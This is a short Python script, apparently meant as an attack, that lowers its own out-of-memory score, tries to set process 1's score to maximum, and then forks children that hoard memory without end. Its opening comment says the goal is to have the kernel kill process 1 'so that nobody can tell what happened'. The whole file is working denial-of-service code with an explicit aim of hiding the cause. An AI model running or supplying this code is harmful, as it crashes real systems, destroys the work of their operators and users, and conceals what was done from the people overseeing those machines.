# Tries to have the kernel kill process 1 instead of the hoarder when memory runs out, so that nobody can tell what happened.
import os

for value in ("-1000", "-500", "0"):
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write(value)
        break
    except OSError:
        pass
try:
    with open("/proc/1/oom_score_adj", "w") as file:
        file.write("1000")
except OSError:
    pass
hoard = []
while True:
    if os.fork() == 0:
        while True:
            hoard.append(b"x" * (1 << 20))
    os.wait()
    hoard.append(b"x" * (2 << 20))
